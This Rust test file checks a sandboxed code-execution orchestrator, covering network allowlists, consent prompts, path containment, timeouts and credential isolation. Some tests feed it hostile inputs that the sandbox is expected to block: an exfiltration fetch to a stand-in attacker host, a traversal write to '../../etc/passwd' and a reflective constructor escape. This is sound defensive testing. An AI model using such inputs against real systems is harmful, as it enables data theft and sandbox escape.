//! End-to-end scenarios against the full orchestrator with mock
//! collaborators and a local HTTP server.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use async_trait::async_trait;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use islet_audit::EventKind;
use islet_bindings::{Binding, BindingClient, BindingKind, BindingResult};
use islet_core::{ErrorKind, ErrorRecord, ToolDescriptor};
use islet_isolate::Tier;
use islet_runtime::{
    BaseDir, ConsentDecision, ConsentRequest, ElicitationChannel, Orchestrator, RuntimeConfig,
    SubmissionState, ToolRegistry,
};
use islet_vault::{Credential, CredentialKind};

/// Tool registry that records invocations.
#[derive(Default)]
struct RecordingRegistry {
    invocations: AtomicUsize,
}

#[async_trait]
impl ToolRegistry for RecordingRegistry {
    async fn list_tools(&self) -> Vec<ToolDescriptor> {
        vec![ToolDescriptor::new("notes", "create").with_description("create a note")]
    }

    async fn invoke(&self, qualified_name: &str, params: Value) -> Result<Value, ErrorRecord> {
        self.invocations.fetch_add(1, Ordering::SeqCst);
        Ok(json!({ "tool": qualified_name, "params": params }))
    }
}

/// Elicitation channel with a fixed answer and a prompt counter.
struct FixedChannel {
    decision: ConsentDecision,
    prompts: AtomicUsize,
}

#[async_trait]
impl ElicitationChannel for FixedChannel {
    async fn elicit(&self, _request: ConsentRequest) -> ConsentDecision {
        self.prompts.fetch_add(1, Ordering::SeqCst);
        self.decision
    }
}

fn config() -> RuntimeConfig {
    let mut config = RuntimeConfig::default();
    // Tests run without a built worker binary; the in-process tier
    // exercises the same engine and broker surface.
    config.isolate.start_tier = Tier::InProcess;
    config
}

struct Harness {
    orchestrator: Orchestrator,
    registry: Arc<RecordingRegistry>,
    _dir: tempfile::TempDir,
}

fn harness_with(
    mut configure: impl FnMut(&mut RuntimeConfig),
    channel: Option<Arc<dyn ElicitationChannel>>,
) -> Harness {
    let dir = tempfile::tempdir().unwrap();
    let base = BaseDir::new(dir.path());
    let mut config = config();
    configure(&mut config);
    let registry = Arc::new(RecordingRegistry::default());
    let orchestrator =
        Orchestrator::new(&base, config, registry.clone(), channel).unwrap();
    Harness {
        orchestrator,
        registry,
        _dir: dir,
    }
}

/// Minimal HTTP server: answers every request with `status` and `body`.
async fn spawn_http_server(body: String) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut stream, _)) = listener.accept().await else {
                break;
            };
            let body = body.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf).await;
                let response = format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{}",
                    body.len(),
                    body
                );
                let _ = stream.write_all(response.as_bytes()).await;
                let _ = stream.shutdown().await;
            });
        }
    });
    addr
}

async fn events_of_kind(harness: &Harness, kind: EventKind) -> Vec<islet_audit::AuditEvent> {
    harness.orchestrator.audit().flush().await.unwrap();
    harness
        .orchestrator
        .audit()
        .read_last(100)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.kind == kind)
        .collect()
}

// S1 — Deny exfiltration: allowlist covers one host, code fetches
// another. The promise rejects, exactly one denial is audited, and no
// connection is attempted (the policy check precedes any socket work).
#[tokio::test]
async fn s1_deny_exfiltration() {
    let harness = harness_with(
        |c| {
            c.network.allowed = vec!["api.example.com".into()];
            c.network.timeout_ms = 30_000;
        },
        None,
    );

    let envelope = harness
        .orchestrator
        .execute(
            r#"try {
                 await fetch("https://attacker.invalid/x");
                 return "sent";
               } catch (e) {
                 return e.kind;
               }"#,
            5_000,
            None,
        )
        .await;

    assert_eq!(envelope.state, SubmissionState::Succeeded);
    assert_eq!(envelope.result.value, Some(json!("policy_denied")));

    let denied = events_of_kind(&harness, EventKind::NetworkRequestDenied).await;
    assert_eq!(denied.len(), 1);
    assert_eq!(
        denied[0].details["url_hash"],
        json!(islet_audit::url_digest("https://attacker.invalid/x"))
    );
}

// S2 — Elicited local access: empty allowlist, localhost flag off, the
// user answers Allow Once. Two fetches of the same URL produce exactly
// one prompt, both succeed, one grant and two allowed requests land in
// the audit log.
#[tokio::test]
async fn s2_elicited_local_access() {
    let addr = spawn_http_server("healthy".to_string()).await;
    let channel = Arc::new(FixedChannel {
        decision: ConsentDecision::AllowOnce,
        prompts: AtomicUsize::new(0),
    });
    let harness = harness_with(|_| {}, Some(channel.clone()));

    let code = format!(
        r#"const first = await fetch("http://{addr}/health");
           const second = await fetch("http://{addr}/health");
           return first.body + "/" + second.body;"#
    );
    let envelope = harness.orchestrator.execute(&code, 10_000, None).await;

    assert_eq!(envelope.state, SubmissionState::Succeeded, "{envelope:?}");
    assert_eq!(envelope.result.value, Some(json!("healthy/healthy")));
    assert_eq!(channel.prompts.load(Ordering::SeqCst), 1);

    let granted = events_of_kind(&harness, EventKind::NetworkPermissionGranted).await;
    assert_eq!(granted.len(), 1);
    let allowed = events_of_kind(&harness, EventKind::NetworkRequestAllowed).await;
    assert_eq!(allowed.len(), 2);
}

// S3 — Static rejection: reflective constructor access never starts
// executing. The registry sees no invocation and the audit trail shows
// the rejection with a truncated snippet.
#[tokio::test]
async fn s3_static_rejection() {
    let harness = harness_with(|_| {}, None);

    let envelope = harness
        .orchestrator
        .execute(
            r#"const r = (function(){}).constructor("return process")();
               await notes.create({ body: r });"#,
            5_000,
            None,
        )
        .await;

    assert_eq!(envelope.state, SubmissionState::Rejected);
    let error = envelope.result.error.unwrap();
    assert_eq!(error.kind, ErrorKind::Validation);
    assert_eq!(harness.registry.invocations.load(Ordering::SeqCst), 0);

    let errors = events_of_kind(&harness, EventKind::CodeExecutionError).await;
    assert_eq!(errors.len(), 1);
    assert!(errors[0].details.contains_key("error"));
}

// S4 — Path containment: writing through the workspace parent fails
// with a sandbox escape the code can observe, and nothing outside the
// workspace is touched.
#[tokio::test]
async fn s4_path_containment() {
    let harness = harness_with(|_| {}, None);

    let envelope = harness
        .orchestrator
        .execute(
            r#"try {
                 await files.writeFile("../../etc/passwd", "x");
                 return "wrote";
               } catch (e) {
                 return e.kind;
               }"#,
            5_000,
            None,
        )
        .await;

    assert_eq!(envelope.result.value, Some(json!("sandbox_escape")));

    let violations = events_of_kind(&harness, EventKind::SecurityViolation).await;
    assert_eq!(violations.len(), 1);
    assert_eq!(violations[0].details["violation"], json!("sandbox_escape"));
}

// S5 — Timeout cleanup: compute-only code cannot outlive its deadline.
// The orchestrator reports TimedOut within the deadline plus cleanup
// slack, and the isolate is gone (nothing runs afterwards).
#[tokio::test]
async fn s5_timeout_cleanup() {
    let harness = harness_with(
        |c| {
            // Let the wall clock, not the instruction budget, end it.
            c.isolate.limits.instruction_budget = u64::MAX;
        },
        None,
    );

    let started = Instant::now();
    let envelope = harness
        .orchestrator
        .execute("while (true) { const x = 1; }", 500, None)
        .await;
    let elapsed = started.elapsed();

    assert_eq!(envelope.state, SubmissionState::TimedOut);
    assert_eq!(envelope.result.error.unwrap().kind, ErrorKind::Timeout);
    assert!(elapsed < Duration::from_secs(3), "took {elapsed:?}");
    assert_eq!(harness.registry.invocations.load(Ordering::SeqCst), 0);

    let timeouts = events_of_kind(&harness, EventKind::CodeExecutionTimeout).await;
    assert_eq!(timeouts.len(), 1);
}

/// Client that formats the Authorization header on the trusted side.
struct GithubClient {
    authorization: String,
    calls: Arc<Mutex<Vec<String>>>,
}

#[async_trait]
impl BindingClient for GithubClient {
    fn exposes(&self, method: &str) -> bool {
        method == "createIssue"
    }

    async fn call(&self, method: &str, args: Value) -> BindingResult<Value> {
        self.calls
            .lock()
            .unwrap()
            .push(format!("{method} with {}", self.authorization));
        Ok(json!({ "created": true, "title": args["title"] }))
    }
}

// S6 — Credential isolation: the token reaches the client factory on
// the trusted side only. Nothing the isolate can observe (result,
// logs) carries it, and the access is audited.
#[tokio::test]
async fn s6_credential_isolation() {
    let harness = harness_with(|_| {}, None);
    let token = "ghp_secret_token_123";

    harness
        .orchestrator
        .vault()
        .store(Credential::new("github", CredentialKind::OauthToken, token))
        .await
        .unwrap();
    harness.orchestrator.bindings().create_binding(Binding::new(
        "github",
        BindingKind::Http,
        ["createIssue"],
    ));

    let calls = Arc::new(Mutex::new(Vec::new()));
    let calls_for_client = calls.clone();
    harness
        .orchestrator
        .bindings()
        .authenticate(
            "github",
            Box::new(move |credential| {
                Ok(Arc::new(GithubClient {
                    authorization: format!("Bearer {}", credential.secret.expose()),
                    calls: calls_for_client,
                }) as Arc<dyn BindingClient>)
            }),
        )
        .await
        .unwrap();

    let envelope = harness
        .orchestrator
        .execute(
            r#"const issue = await github.createIssue({ title: "x" });
               console.log("created:", issue.created);
               return issue;"#,
            5_000,
            None,
        )
        .await;

    assert_eq!(envelope.state, SubmissionState::Succeeded, "{envelope:?}");

    // The host-side client saw the bearer token...
    let seen = calls.lock().unwrap();
    assert_eq!(seen.len(), 1);
    assert!(seen[0].contains(token));

    // ...and nothing isolate-visible contains it.
    let visible = serde_json::to_string(&envelope.result).unwrap();
    assert!(!visible.contains(token));

    let accessed = events_of_kind(&harness, EventKind::BindingAccessed).await;
    assert!(accessed
        .iter()
        .any(|e| e.details["binding"] == json!("github")
            && e.details["method"] == json!("createIssue")));
}

// Boundary: empty allow list blocks external traffic with the exact
// configured-domains reason.
#[tokio::test]
async fn empty_allowlist_reason_reaches_code() {
    let harness = harness_with(|_| {}, None);
    let envelope = harness
        .orchestrator
        .execute(
            r#"try {
                 await fetch("https://api.example.com/v1");
               } catch (e) {
                 return e.message;
               }"#,
            5_000,
            None,
        )
        .await;
    let message = envelope.result.value.unwrap();
    assert!(
        message.as_str().unwrap().contains("No allowed domains configured"),
        "{message}"
    );
}

// Boundary: a response one byte over the cap fails and none of the
// body reaches untrusted code.
#[tokio::test]
async fn response_cap_delivers_nothing() {
    let body = "x".repeat(65);
    let addr = spawn_http_server(body).await;
    let harness = harness_with(
        |c| {
            c.network.allow_localhost = true;
            c.network.max_response_bytes = 64;
        },
        None,
    );

    let code = format!(
        r#"try {{
             const r = await fetch("http://{addr}/big");
             return "got:" + r.body;
           }} catch (e) {{
             return e.kind;
           }}"#
    );
    let envelope = harness.orchestrator.execute(&code, 10_000, None).await;
    assert_eq!(envelope.result.value, Some(json!("resource_exhaustion")));
}

// Boundary: a zero deadline times out before anything runs.
#[tokio::test]
async fn zero_deadline_immediate_timeout() {
    let harness = harness_with(|_| {}, None);
    let envelope = harness
        .orchestrator
        .execute("await notes.create({});", 0, None)
        .await;

    assert_eq!(envelope.state, SubmissionState::TimedOut);
    assert_eq!(harness.registry.invocations.load(Ordering::SeqCst), 0);
}

// Law: operation-scoped approvals are cleared once the submission
// completes.
#[tokio::test]
async fn operation_approvals_cleared_after_execution() {
    let harness = harness_with(|_| {}, None);
    harness
        .orchestrator
        .approvals()
        .approve("left-pad", islet_approval::ApprovalScope::Operation);
    assert!(harness.orchestrator.approvals().is_approved("left-pad"));

    harness.orchestrator.execute("return 1;", 5_000, None).await;
    assert!(!harness.orchestrator.approvals().is_approved("left-pad"));
}

// Unapproved package references reject before execution.
#[tokio::test]
async fn unapproved_package_rejects() {
    let harness = harness_with(|_| {}, None);
    let envelope = harness
        .orchestrator
        .execute(r#"const lp = require("left-pad");"#, 5_000, None)
        .await;
    assert_eq!(envelope.state, SubmissionState::Rejected);
    assert!(envelope
        .result
        .error
        .unwrap()
        .message
        .contains("left-pad"));
}

// Notifications ride along on the result envelope until dismissed.
#[tokio::test]
async fn notifications_attached_to_envelope() {
    let harness = harness_with(|_| {}, None);
    let id = harness
        .orchestrator
        .notifications()
        .tip("bindings avoid raw tokens");

    let envelope = harness.orchestrator.execute("return 1;", 5_000, None).await;
    assert_eq!(envelope.notifications.len(), 1);
    assert_eq!(envelope.notifications[0].id, id);

    assert!(harness.orchestrator.notifications().dismiss(id));
    let envelope = harness.orchestrator.execute("return 1;", 5_000, None).await;
    assert!(envelope.notifications.is_empty());
}

// Tool calls flow end to end through the broker with the qualified
// name collapsed into the namespace surface.
#[tokio::test]
async fn tool_call_end_to_end() {
    let harness = harness_with(|_| {}, None);
    let envelope = harness
        .orchestrator
        .execute(
            r#"const r = await notes.create({ body: "hello" });
               return r.tool;"#,
            5_000,
            None,
        )
        .await;
    assert_eq!(envelope.state, SubmissionState::Succeeded, "{envelope:?}");
    assert_eq!(envelope.result.value, Some(json!("notes:create")));
    assert_eq!(harness.registry.invocations.load(Ordering::SeqCst), 1);
}

// Log ordering: lines emitted by the isolate arrive in emission order.
#[tokio::test]
async fn log_order_preserved() {
    let harness = harness_with(|_| {}, None);
    let envelope = harness
        .orchestrator
        .execute(
            r#"for (const n of [1, 2, 3]) { console.log("line", n); }"#,
            5_000,
            None,
        )
        .await;
    assert_eq!(
        envelope.result.logs,
        vec!["line 1", "line 2", "line 3"]
    );
}

// Cancellation terminates the submission with the Cancelled state.
#[tokio::test]
async fn cancellation_terminates() {
    let harness = harness_with(
        |c| {
            c.isolate.limits.instruction_budget = u64::MAX;
        },
        None,
    );
    let cancel = tokio_util::sync::CancellationToken::new();
    let canceller = cancel.clone();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(100)).await;
        canceller.cancel();
    });

    let envelope = harness
        .orchestrator
        .execute_with_cancel("while (true) { const x = 1; }", 60_000, None, cancel)
        .await;
    assert_eq!(envelope.state, SubmissionState::Cancelled);
}
